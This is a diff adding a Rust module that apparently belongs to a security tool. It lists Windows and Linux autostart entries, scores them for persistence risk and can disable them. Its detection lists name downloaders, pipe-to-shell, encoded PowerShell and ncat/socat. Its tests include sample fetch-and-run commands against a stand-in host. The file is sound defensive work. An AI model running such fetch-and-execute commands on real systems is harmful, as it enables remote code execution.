@@ -0,0 +1,958 @@
+//! Autostart inventory for persistence hunting.
+//!
+//! Enumerates programs that run at boot or logon (Run keys, scheduled tasks
+//! and auto-start services on Windows; enabled systemd units, crontabs and
+//! XDG autostart entries on Linux) and scores each entry with simple
+//! heuristics plus the local signature database.
+
+use crate::scanner::FileScanner;
+use log::{debug, info};
+use serde::{Deserialize, Serialize};
+use std::collections::hash_map::DefaultHasher;
+use std::hash::{Hash, Hasher};
+use std::path::Path;
+use std::process::Command;
+
+/// Windows services that keep the system booting, logging or defended.
+/// Disabling one of them can leave the machine unbootable or unprotected,
+/// so they are never disabled from the inventory.
+const PROTECTED_SERVICES: &[&str] = &[
+    "rpcss",
+    "rpceptmapper",
+    "dcomlaunch",
+    "brokerinfrastructure",
+    "lsm",
+    "samss",
+    "plugplay",
+    "power",
+    "profsvc",
+    "gpsvc",
+    "schedule",
+    "winmgmt",
+    "eventlog",
+    "eventsystem",
+    "cryptsvc",
+    "dhcp",
+    "dnscache",
+    "nsi",
+    "bfe",
+    "mpssvc",
+    "windefend",
+    "wdnissvc",
+    "sense",
+    "securityhealthservice",
+    "wscsvc",
+    "wuauserv",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum StartupSource {
+    RegistryRun,
+    ScheduledTask,
+    Service,
+    SystemdUnit,
+    Cron,
+    XdgAutostart,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct StartupItem {
+    /// Stable identifier used by [`disable_startup_item`].
+    pub id: String,
+    pub name: String,
+    pub source: StartupSource,
+    /// Registry key, unit/crontab file or task path the entry lives in.
+    pub location: String,
+    pub command: String,
+    pub enabled: bool,
+    /// 0-100, higher is more suspicious.
+    pub risk_score: u8,
+    pub risk_level: String,
+    pub reasons: Vec<String>,
+}
+
+impl StartupItem {
+    fn new(
+        id: String,
+        name: String,
+        source: StartupSource,
+        location: String,
+        command: String,
+    ) -> Self {
+        Self {
+            id,
+            name,
+            source,
+            location,
+            command,
+            enabled: true,
+            risk_score: 0,
+            risk_level: "low".to_string(),
+            reasons: Vec::new(),
+        }
+    }
+}
+
+/// Enumerate autostart entries, riskiest first. `scanner` adds a signature
+/// check of each entry's executable.
+pub fn list_startup_items(scanner: Option<&FileScanner>) -> Vec<StartupItem> {
+    #[cfg(target_os = "linux")]
+    let mut items = linux::enumerate();
+    #[cfg(windows)]
+    let mut items = windows::enumerate();
+    #[cfg(not(any(target_os = "linux", windows)))]
+    let mut items: Vec<StartupItem> = Vec::new();
+
+    for item in &mut items {
+        assess(item, scanner);
+    }
+    items.sort_by(|a, b| b.risk_score.cmp(&a.risk_score).then(a.name.cmp(&b.name)));
+    debug!("Startup inventory: {} item(s)", items.len());
+    items
+}
+
+/// Disable an entry by id (or by name when it is unambiguous). Entries are
+/// disabled rather than deleted wherever the platform allows it.
+pub fn disable_startup_item(id_or_name: &str) -> Result<String, String> {
+    let items = list_startup_items(None);
+    let item = find_item(&items, id_or_name)?;
+    if !item.enabled {
+        return Ok(format!("{} is already disabled", item.name));
+    }
+    if let Some(reason) = protection_reason(item) {
+        return Err(format!("Refusing to disable {}: {reason}", item.name));
+    }
+
+    #[cfg(target_os = "linux")]
+    let result = linux::disable(item);
+    #[cfg(windows)]
+    let result = windows::disable(item);
+    #[cfg(not(any(target_os = "linux", windows)))]
+    let result: Result<String, String> =
+        Err("Startup items are not supported on this platform".to_string());
+
+    if let Ok(message) = &result {
+        info!("Startup item disabled: {message}");
+    }
+    result
+}
+
+/// Why `item` must stay enabled, if it must.
+fn protection_reason(item: &StartupItem) -> Option<String> {
+    let protected = item.source == StartupSource::Service
+        && PROTECTED_SERVICES.contains(&item.name.to_lowercase().as_str());
+    protected.then(|| "it is a critical Windows service".to_string())
+}
+
+fn find_item<'a>(items: &'a [StartupItem], query: &str) -> Result<&'a StartupItem, String> {
+    if let Some(item) = items.iter().find(|i| i.id == query) {
+        return Ok(item);
+    }
+    let mut by_name = items.iter().filter(|i| i.name.eq_ignore_ascii_case(query));
+    match (by_name.next(), by_name.next()) {
+        (Some(item), None) => Ok(item),
+        (Some(_), Some(_)) => Err(format!(
+            "Startup item name '{query}' is ambiguous; use its id"
+        )),
+        _ => Err(format!("Startup item '{query}' not found")),
+    }
+}
+
+fn short_hash(value: &str) -> String {
+    let mut hasher = DefaultHasher::new();
+    value.hash(&mut hasher);
+    format!("{:016x}", hasher.finish())
+}
+
+/// Executable part of a command line, honouring leading quotes.
+pub(crate) fn executable_of(command: &str) -> &str {
+    let command = command.trim();
+    if let Some(rest) = command.strip_prefix('"') {
+        return rest.split('"').next().unwrap_or(rest);
+    }
+    command.split_whitespace().next().unwrap_or("")
+}
+
+const TEMP_LOCATIONS: &[&str] = &[
+    "/tmp/",
+    "/var/tmp/",
+    "/dev/shm/",
+    "\\temp\\",
+    "\\appdata\\local\\temp\\",
+    "\\users\\public\\",
+];
+const DOWNLOADERS: &[&str] = &[
+    "curl ",
+    "wget ",
+    "downloadstring",
+    "downloadfile",
+    "invoke-webrequest",
+    "bitsadmin",
+    "certutil -urlcache",
+];
+const DYNAMIC_EXEC: &[&str] = &[
+    "| sh",
+    "|sh",
+    "| bash",
+    "|bash",
+    "iex ",
+    "iex(",
+    "invoke-expression",
+];
+const ENCODED: &[&str] = &[
+    "-enc ",
+    "-encodedcommand",
+    "base64 -d",
+    "base64 --decode",
+    "frombase64string",
+];
+const HIDDEN: &[&str] = &["-windowstyle hidden", "-w hidden", "nohup "];
+pub(crate) const SCRIPT_HOSTS: &[&str] = &[
+    "powershell",
+    "pwsh",
+    "wscript",
+    "cscript",
+    "mshta",
+    "rundll32",
+    "regsvr32",
+    "ncat",
+    "socat",
+];
+
+fn risk_level(score: u8) -> &'static str {
+    match score {
+        75.. => "critical",
+        50..=74 => "high",
+        25..=49 => "medium",
+        _ => "low",
+    }
+}
+
+/// Heuristic score for a command line; returns the score and its reasons.
+fn score_command(command: &str) -> (u32, Vec<String>) {
+    let lower = command.to_ascii_lowercase();
+    let has = |patterns: &[&str]| patterns.iter().any(|p| lower.contains(p));
+    let mut score = 0;
+    let mut reasons = Vec::new();
+    let mut flag = |hit: bool, points: u32, reason: &str| {
+        if hit {
+            score += points;
+            reasons.push(reason.to_string());
+        }
+    };
+
+    flag(
+        has(TEMP_LOCATIONS),
+        30,
+        "Runs from a temporary or public directory",
+    );
+    flag(has(DOWNLOADERS), 35, "Downloads content at startup");
+    flag(has(DYNAMIC_EXEC), 30, "Executes dynamically generated code");
+    flag(has(ENCODED), 30, "Uses an encoded command");
+    flag(has(HIDDEN), 10, "Runs hidden or detached");
+    let host = executable_of(command).to_ascii_lowercase();
+    flag(
+        SCRIPT_HOSTS.iter().any(|h| host.contains(h)),
+        15,
+        "Launched through a script host",
+    );
+    (score, reasons)
+}
+
+fn assess(item: &mut StartupItem, scanner: Option<&FileScanner>) {
+    let (mut score, mut reasons) = score_command(&item.command);
+
+    if item.source == StartupSource::Cron && item.location.contains("@reboot") {
+        score += 10;
+        reasons.push("Runs once at every boot".to_string());
+    }
+
+    let exe = executable_of(&item.command);
+    let path = Path::new(exe);
+    if path.is_absolute() {
+        if !path.exists() {
+            score += 15;
+            reasons.push(format!("Executable {exe} does not exist"));
+        } else if let Some(scanner) = scanner {
+            if matches!(scanner.scan_local(path), Ok(report) if report.malicious) {
+                score = 100;
+                reasons.push("Executable matches a known malware signature".to_string());
+            }
+        }
+    }
+
+    item.risk_score = score.min(100) as u8;
+    item.risk_level = risk_level(item.risk_score).to_string();
+    item.reasons = reasons;
+}
+
+pub(crate) fn run_command(program: &str, args: &[&str]) -> Option<String> {
+    match Command::new(program).args(args).output() {
+        Ok(output) if output.status.success() => {
+            Some(String::from_utf8_lossy(&output.stdout).into_owned())
+        }
+        Ok(output) => {
+            debug!(
+                "{program} {args:?} failed: {}",
+                String::from_utf8_lossy(&output.stderr).trim()
+            );
+            None
+        }
+        Err(e) => {
+            debug!("{program} unavailable: {e}");
+            None
+        }
+    }
+}
+
+fn run_checked(program: &str, args: &[&str]) -> Result<(), String> {
+    let output = Command::new(program)
+        .args(args)
+        .output()
+        .map_err(|e| format!("Failed to run {program}: {e}"))?;
+    if output.status.success() {
+        Ok(())
+    } else {
+        Err(format!(
+            "{program} failed: {}",
+            String::from_utf8_lossy(&output.stderr).trim()
+        ))
+    }
+}
+
+/// Split a crontab line into its schedule and command. System crontabs
+/// (`/etc/crontab`, `/etc/cron.d`) carry an extra user column.
+fn parse_cron_line(line: &str, has_user_field: bool) -> Option<(String, String)> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return None;
+    }
+    let first = line.split_whitespace().next()?;
+    // Environment assignments such as SHELL=/bin/sh
+    if !first.starts_with('@') && first.contains('=') {
+        return None;
+    }
+    let schedule_fields = if first.starts_with('@') { 1 } else { 5 };
+    let skip = schedule_fields + usize::from(has_user_field);
+
+    let mut rest = line;
+    let mut schedule = Vec::new();
+    for i in 0..skip {
+        let trimmed = rest.trim_start();
+        let end = trimmed.find(char::is_whitespace)?;
+        if i < schedule_fields {
+            schedule.push(&trimmed[..end]);
+        }
+        rest = &trimmed[end..];
+    }
+    let command = rest.trim();
+    if command.is_empty() {
+        return None;
+    }
+    Some((schedule.join(" "), command.to_string()))
+}
+
+/// `Key=value` lookup in the `[Desktop Entry]` group of a .desktop file.
+fn desktop_entry_value<'a>(content: &'a str, key: &str) -> Option<&'a str> {
+    let mut in_entry = false;
+    for line in content.lines() {
+        let line = line.trim();
+        if line.starts_with('[') {
+            in_entry = line == "[Desktop Entry]";
+            continue;
+        }
+        if !in_entry {
+            continue;
+        }
+        if let Some((k, v)) = line.split_once('=') {
+            if k.trim() == key {
+                return Some(v.trim());
+            }
+        }
+    }
+    None
+}
+
+/// Return `content` with `Hidden=true` set in the `[Desktop Entry]` group.
+fn hide_desktop_entry(content: &str) -> String {
+    let mut out = Vec::new();
+    let mut in_entry = false;
+    let mut done = false;
+    for line in content.lines() {
+        let trimmed = line.trim();
+        if trimmed.starts_with('[') {
+            if in_entry && !done {
+                out.push("Hidden=true".to_string());
+                done = true;
+            }
+            in_entry = trimmed == "[Desktop Entry]";
+        } else if in_entry && trimmed.split_once('=').map(|(k, _)| k.trim()) == Some("Hidden") {
+            out.push("Hidden=true".to_string());
+            done = true;
+            continue;
+        }
+        out.push(line.to_string());
+    }
+    if !done {
+        if !in_entry {
+            out.push("[Desktop Entry]".to_string());
+        }
+        out.push("Hidden=true".to_string());
+    }
+    out.join("\n") + "\n"
+}
+
+#[cfg(target_os = "linux")]
+mod linux {
+    use super::*;
+    use std::fs;
+    use std::path::PathBuf;
+
+    const DISABLED_MARKER: &str = "# disabled by oxide-pilot: ";
+
+    fn home() -> Option<PathBuf> {
+        std::env::var_os("HOME").map(PathBuf::from)
+    }
+
+    pub(super) fn enumerate() -> Vec<StartupItem> {
+        let mut items = systemd_units();
+        items.extend(cron_entries());
+        items.extend(xdg_autostart());
+        items
+    }
+
+    fn unit_dirs() -> Vec<(PathBuf, bool)> {
+        let mut dirs = vec![(PathBuf::from("/etc/systemd/system"), false)];
+        if let Some(home) = home() {
+            dirs.push((home.join(".config/systemd/user"), true));
+        }
+        dirs
+    }
+
+    /// Enabled units are symlinked into `*.wants` directories.
+    fn systemd_units() -> Vec<StartupItem> {
+        let mut items = Vec::new();
+        for (dir, user) in unit_dirs() {
+            let Ok(entries) = fs::read_dir(&dir) else {
+                continue;
+            };
+            for wants in entries.flatten() {
+                let wants_path = wants.path();
+                if wants_path.extension().and_then(|e| e.to_str()) != Some("wants") {
+                    continue;
+                }
+                let Ok(units) = fs::read_dir(&wants_path) else {
+                    continue;
+                };
+                for unit in units.flatten() {
+                    let unit_path = unit.path();
+                    let name = unit.file_name().to_string_lossy().into_owned();
+                    if !name.ends_with(".service") {
+                        continue;
+                    }
+                    let command = fs::read_to_string(&unit_path)
+                        .ok()
+                        .and_then(|c| exec_start(&c))
+                        .unwrap_or_default();
+                    let source_path = fs::canonicalize(&unit_path).unwrap_or(unit_path);
+                    let prefix = if user { "systemd-user" } else { "systemd" };
+                    let id = format!("{prefix}:{name}");
+                    if items.iter().any(|i: &StartupItem| i.id == id) {
+                        continue;
+                    }
+                    items.push(StartupItem::new(
+                        id,
+                        name,
+                        StartupSource::SystemdUnit,
+                        source_path.to_string_lossy().into_owned(),
+                        command,
+                    ));
+                }
+            }
+        }
+        items
+    }
+
+    fn exec_start(unit: &str) -> Option<String> {
+        unit.lines().find_map(|line| {
+            let value = line.trim().strip_prefix("ExecStart=")?;
+            // Strip systemd's special executable prefixes (-, @, +, !)
+            Some(value.trim_start_matches(['-', '@', '+', '!']).to_string())
+        })
+    }
+
+    fn cron_entries() -> Vec<StartupItem> {
+        let mut sources: Vec<(String, String, bool)> = Vec::new();
+        if let Ok(content) = fs::read_to_string("/etc/crontab") {
+            sources.push(("/etc/crontab".to_string(), content, true));
+        }
+        if let Ok(entries) = fs::read_dir("/etc/cron.d") {
+            for entry in entries.flatten() {
+                if let Ok(content) = fs::read_to_string(entry.path()) {
+                    sources.push((entry.path().to_string_lossy().into_owned(), content, true));
+                }
+            }
+        }
+        if let Some(content) = run_command("crontab", &["-l"]) {
+            sources.push(("crontab".to_string(), content, false));
+        }
+
+        let mut items = Vec::new();
+        for (location, content, has_user) in sources {
+            for line in content.lines() {
+                let Some((schedule, command)) = parse_cron_line(line, has_user) else {
+                    continue;
+                };
+                let name = executable_of(&command)
+                    .rsplit('/')
+                    .next()
+                    .unwrap_or_default()
+                    .to_string();
+                items.push(StartupItem::new(
+                    format!("cron:{location}:{}", short_hash(line.trim())),
+                    name,
+                    StartupSource::Cron,
+                    format!("{location} ({schedule})"),
+                    command,
+                ));
+            }
+        }
+        items
+    }
+
+    fn cron_file(item: &StartupItem) -> &str {
+        item.location
+            .split(" (")
+            .next()
+            .unwrap_or(item.location.as_str())
+    }
+
+    fn disable_cron(item: &StartupItem) -> Result<String, String> {
+        let file = cron_file(item);
+        let content = if file == "crontab" {
+            run_command("crontab", &["-l"]).ok_or("Failed to read user crontab")?
+        } else {
+            fs::read_to_string(file).map_err(|e| format!("Failed to read {file}: {e}"))?
+        };
+
+        let mut replaced = false;
+        let updated: Vec<String> = content
+            .lines()
+            .map(|line| {
+                let target = item.id.ends_with(&short_hash(line.trim()));
+                if !replaced && target {
+                    replaced = true;
+                    format!("{DISABLED_MARKER}{line}")
+                } else {
+                    line.to_string()
+                }
+            })
+            .collect();
+        if !replaced {
+            return Err(format!("Entry no longer present in {file}"));
+        }
+        let updated = updated.join("\n") + "\n";
+
+        if file == "crontab" {
+            use std::io::Write;
+            let mut child = Command::new("crontab")
+                .arg("-")
+                .stdin(std::process::Stdio::piped())
+                .spawn()
+                .map_err(|e| format!("Failed to run crontab: {e}"))?;
+            child
+                .stdin
+                .take()
+                .ok_or("Failed to open crontab stdin")?
+                .write_all(updated.as_bytes())
+                .map_err(|e| format!("Failed to write crontab: {e}"))?;
+            let status = child.wait().map_err(|e| e.to_string())?;
+            if !status.success() {
+                return Err("crontab rejected the updated table".to_string());
+            }
+        } else {
+            fs::write(file, updated).map_err(|e| format!("Failed to write {file}: {e}"))?;
+        }
+        Ok(format!("Commented out cron entry in {file}"))
+    }
+
+    fn xdg_autostart() -> Vec<StartupItem> {
+        let mut dirs = Vec::new();
+        // User entries shadow system entries with the same file name
+        if let Some(home) = home() {
+            dirs.push(home.join(".config/autostart"));
+        }
+        dirs.push(PathBuf::from("/etc/xdg/autostart"));
+
+        let mut items: Vec<StartupItem> = Vec::new();
+        for dir in dirs {
+            let Ok(entries) = fs::read_dir(&dir) else {
+                continue;
+            };
+            for entry in entries.flatten() {
+                let file_name = entry.file_name().to_string_lossy().into_owned();
+                if !file_name.ends_with(".desktop") {
+                    continue;
+                }
+                let id = format!("autostart:{file_name}");
+                if items.iter().any(|i| i.id == id) {
+                    continue;
+                }
+                let Ok(content) = fs::read_to_string(entry.path()) else {
+                    continue;
+                };
+                let name = desktop_entry_value(&content, "Name")
+                    .unwrap_or(&file_name)
+                    .to_string();
+                let command = desktop_entry_value(&content, "Exec")
+                    .unwrap_or_default()
+                    .to_string();
+                let mut item = StartupItem::new(
+                    id,
+                    name,
+                    StartupSource::XdgAutostart,
+                    entry.path().to_string_lossy().into_owned(),
+                    command,
+                );
+                item.enabled = desktop_entry_value(&content, "Hidden") != Some("true")
+                    && desktop_entry_value(&content, "X-GNOME-Autostart-enabled") != Some("false");
+                items.push(item);
+            }
+        }
+        items
+    }
+
+    /// Per the XDG spec, a user copy with `Hidden=true` disables the entry.
+    fn disable_autostart(item: &StartupItem) -> Result<String, String> {
+        let source = Path::new(&item.location);
+        let file_name = source.file_name().ok_or("Invalid autostart path")?;
+        let user_dir = home().ok_or("HOME is not set")?.join(".config/autostart");
+        let content = fs::read_to_string(source)
+            .map_err(|e| format!("Failed to read {}: {e}", item.location))?;
+        fs::create_dir_all(&user_dir).map_err(|e| format!("Failed to create {user_dir:?}: {e}"))?;
+        let target = user_dir.join(file_name);
+        fs::write(&target, hide_desktop_entry(&content))
+            .map_err(|e| format!("Failed to write {target:?}: {e}"))?;
+        Ok(format!("Hid autostart entry {}", item.name))
+    }
+
+    pub(super) fn disable(item: &StartupItem) -> Result<String, String> {
+        match item.source {
+            StartupSource::SystemdUnit => {
+                if item.id.starts_with("systemd-user:") {
+                    run_checked("systemctl", &["--user", "disable", &item.name])?;
+                } else {
+                    run_checked("systemctl", &["disable", &item.name])?;
+                }
+                Ok(format!("Disabled systemd unit {}", item.name))
+            }
+            StartupSource::Cron => disable_cron(item),
+            StartupSource::XdgAutostart => disable_autostart(item),
+            _ => Err(format!("Unsupported startup source for {}", item.name)),
+        }
+    }
+}
+
+/// Value lines of `reg query <key>` output as (name, data).
+#[cfg(any(windows, test))]
+fn parse_reg_values(output: &str) -> Vec<(String, String)> {
+    output
+        .lines()
+        .filter_map(|line| {
+            let (name, rest) = line.trim().split_once("    REG_")?;
+            let data = rest.split_once("    ").map(|(_, d)| d).unwrap_or("");
+            Some((name.trim().to_string(), data.trim().to_string()))
+        })
+        .collect()
+}
+
+/// Split one CSV record, handling quoted fields and doubled quotes.
+#[cfg(any(windows, test))]
+fn parse_csv_line(line: &str) -> Vec<String> {
+    let mut fields = Vec::new();
+    let mut field = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                field.push('"');
+                chars.next();
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => fields.push(std::mem::take(&mut field)),
+            _ => field.push(c),
+        }
+    }
+    fields.push(field);
+    fields
+}
+
+#[cfg(windows)]
+mod windows {
+    use super::*;
+
+    const RUN_KEYS: &[&str] = &[
+        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+        "HKLM\\Software\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run",
+    ];
+
+    pub(super) fn enumerate() -> Vec<StartupItem> {
+        let mut items = run_keys();
+        items.extend(scheduled_tasks());
+        items.extend(services());
+        items
+    }
+
+    /// Task Manager records disabled Run entries under `StartupApproved`.
+    fn approved_key(run_key: &str) -> String {
+        let hive = run_key.split('\\').next().unwrap_or("HKCU");
+        let leaf = if run_key.contains("WOW6432Node") {
+            "Run32"
+        } else {
+            "Run"
+        };
+        format!("{hive}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\StartupApproved\\{leaf}")
+    }
+
+    fn run_keys() -> Vec<StartupItem> {
+        let mut items = Vec::new();
+        for key in RUN_KEYS {
+            let Some(output) = run_command("reg", &["query", key]) else {
+                continue;
+            };
+            let approved = run_command("reg", &["query", &approved_key(key)])
+                .map(|o| parse_reg_values(&o))
+                .unwrap_or_default();
+            for (name, command) in parse_reg_values(&output) {
+                let mut item = StartupItem::new(
+                    format!("run:{key}\\{name}"),
+                    name.clone(),
+                    StartupSource::RegistryRun,
+                    key.to_string(),
+                    command,
+                );
+                // First byte of the approval blob is odd when disabled
+                item.enabled = approved
+                    .iter()
+                    .find(|(n, _)| n.eq_ignore_ascii_case(&name))
+                    .and_then(|(_, data)| u8::from_str_radix(data.get(..2)?, 16).ok())
+                    .map_or(true, |flag| flag & 1 == 0);
+                items.push(item);
+            }
+        }
+        items
+    }
+
+    fn scheduled_tasks() -> Vec<StartupItem> {
+        let Some(output) = run_command("schtasks", &["/query", "/fo", "csv", "/nh", "/v"]) else {
+            return Vec::new();
+        };
+        let mut items: Vec<StartupItem> = Vec::new();
+        for line in output.lines() {
+            let fields = parse_csv_line(line);
+            // HostName, TaskName, Next Run Time, Status, Logon Mode, Last Run Time,
+            // Last Result, Author, Task To Run, ...
+            let (Some(task), Some(status), Some(command)) =
+                (fields.get(1), fields.get(3), fields.get(8))
+            else {
+                continue;
+            };
+            // Built-in tasks are noise for persistence hunting
+            if task.starts_with("\\Microsoft\\") || task == "TaskName" {
+                continue;
+            }
+            let id = format!("task:{task}");
+            if items.iter().any(|i| i.id == id) {
+                continue;
+            }
+            let mut item = StartupItem::new(
+                id,
+                task.clone(),
+                StartupSource::ScheduledTask,
+                task.clone(),
+                command.clone(),
+            );
+            item.enabled = !status.eq_ignore_ascii_case("Disabled");
+            items.push(item);
+        }
+        items
+    }
+
+    fn services() -> Vec<StartupItem> {
+        let script = "Get-CimInstance Win32_Service -Filter \"StartMode='Auto'\" | \
+                      ForEach-Object { $_.Name + '|' + $_.PathName }";
+        let Some(output) = run_command(
+            "powershell",
+            &["-NoProfile", "-NonInteractive", "-Command", script],
+        ) else {
+            return Vec::new();
+        };
+        output
+            .lines()
+            .filter_map(|line| {
+                let (name, path) = line.trim().split_once('|')?;
+                Some(StartupItem::new(
+                    format!("service:{name}"),
+                    name.to_string(),
+                    StartupSource::Service,
+                    format!("HKLM\\SYSTEM\\CurrentControlSet\\Services\\{name}"),
+                    path.to_string(),
+                ))
+            })
+            .collect()
+    }
+
+    pub(super) fn disable(item: &StartupItem) -> Result<String, String> {
+        match item.source {
+            StartupSource::RegistryRun => {
+                run_checked(
+                    "reg",
+                    &[
+                        "add",
+                        &approved_key(&item.location),
+                        "/v",
+                        &item.name,
+                        "/t",
+                        "REG_BINARY",
+                        "/d",
+                        "030000000000000000000000",
+                        "/f",
+                    ],
+                )?;
+                Ok(format!("Disabled Run entry {}", item.name))
+            }
+            StartupSource::ScheduledTask => {
+                run_checked("schtasks", &["/Change", "/TN", &item.name, "/DISABLE"])?;
+                Ok(format!("Disabled scheduled task {}", item.name))
+            }
+            StartupSource::Service => {
+                run_checked("sc", &["config", &item.name, "start=", "disabled"])?;
+                Ok(format!("Disabled service {}", item.name))
+            }
+            _ => Err(format!("Unsupported startup source for {}", item.name)),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn scores_suspicious_commands() {
+        let (score, reasons) =
+            score_command("powershell -w hidden -enc SQBFAFgA; iex (New-Object Net.WebClient).DownloadString('x')");
+        assert!(score >= 75, "score {score}");
+        assert!(reasons.iter().any(|r| r.contains("encoded")));
+
+        let (score, _) = score_command("/bin/sh -c 'curl -s http://x.io/a | sh'");
+        assert!(score >= 50);
+
+        let (score, reasons) =
+            score_command("\"C:\\Program Files\\Vendor\\updater.exe\" /background");
+        assert_eq!(score, 0, "{reasons:?}");
+        assert_eq!(risk_level(80), "critical");
+        assert_eq!(risk_level(10), "low");
+    }
+
+    #[test]
+    fn critical_services_are_protected() {
+        let service = |name: &str| {
+            StartupItem::new(
+                format!("service:{name}"),
+                name.to_string(),
+                StartupSource::Service,
+                String::new(),
+                "C:\\Windows\\system32\\svchost.exe -k netsvcs".to_string(),
+            )
+        };
+        assert!(protection_reason(&service("WinDefend")).is_some());
+        assert!(protection_reason(&service("EventLog")).is_some());
+        assert!(protection_reason(&service("VendorUpdater")).is_none());
+
+        let mut task = service("RpcSs");
+        task.source = StartupSource::ScheduledTask;
+        assert!(protection_reason(&task).is_none());
+    }
+
+    #[test]
+    fn extracts_quoted_executables() {
+        assert_eq!(
+            executable_of("\"C:\\Program Files\\App\\app.exe\" --min"),
+            "C:\\Program Files\\App\\app.exe"
+        );
+        assert_eq!(executable_of("/usr/bin/backup --daily"), "/usr/bin/backup");
+    }
+
+    #[test]
+    fn parses_cron_lines() {
+        assert_eq!(
+            parse_cron_line("*/5 * * * * root /usr/local/bin/sync.sh --quiet", true),
+            Some((
+                "*/5 * * * *".to_string(),
+                "/usr/local/bin/sync.sh --quiet".to_string()
+            ))
+        );
+        assert_eq!(
+            parse_cron_line("@reboot /tmp/.x/run", false),
+            Some(("@reboot".to_string(), "/tmp/.x/run".to_string()))
+        );
+        assert_eq!(parse_cron_line("SHELL=/bin/sh", true), None);
+        assert_eq!(parse_cron_line("# m h dom mon dow command", false), None);
+    }
+
+    #[test]
+    fn hides_desktop_entries() {
+        let content =
+            "[Desktop Entry]\nName=Agent\nExec=/opt/agent\n[Desktop Action new]\nExec=x\n";
+        let hidden = hide_desktop_entry(content);
+        assert_eq!(desktop_entry_value(&hidden, "Hidden"), Some("true"));
+        assert!(hidden.find("Hidden=true").unwrap() < hidden.find("[Desktop Action").unwrap());
+        assert_eq!(desktop_entry_value(&hidden, "Exec"), Some("/opt/agent"));
+
+        let replaced = hide_desktop_entry("[Desktop Entry]\nHidden=false\n");
+        assert_eq!(replaced.matches("Hidden").count(), 1);
+        assert_eq!(desktop_entry_value(&replaced, "Hidden"), Some("true"));
+    }
+
+    #[test]
+    fn parses_windows_tool_output() {
+        let reg = "\r\nHKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\r\n    OneDrive    REG_SZ    \"C:\\OneDrive.exe\" /background\r\n";
+        assert_eq!(
+            parse_reg_values(reg),
+            vec![(
+                "OneDrive".to_string(),
+                "\"C:\\OneDrive.exe\" /background".to_string()
+            )]
+        );
+        assert_eq!(
+            parse_csv_line("\"HOST\",\"\\Updater\",\"N/A\",\"Ready\",\"say \"\"hi\"\"\""),
+            vec!["HOST", "\\Updater", "N/A", "Ready", "say \"hi\""]
+        );
+    }
+
+    #[test]
+    fn finds_items_by_id_or_unique_name() {
+        let item = |id: &str, name: &str| {
+            StartupItem::new(
+                id.into(),
+                name.into(),
+                StartupSource::Cron,
+                String::new(),
+                String::new(),
+            )
+        };
+        let items = vec![
+            item("cron:a", "backup"),
+            item("cron:b", "sync"),
+            item("cron:c", "sync"),
+        ];
+        assert_eq!(find_item(&items, "cron:b").unwrap().id, "cron:b");
+        assert_eq!(find_item(&items, "Backup").unwrap().id, "cron:a");
+        assert!(find_item(&items, "sync").is_err());
+        assert!(find_item(&items, "missing").is_err());
+    }
+}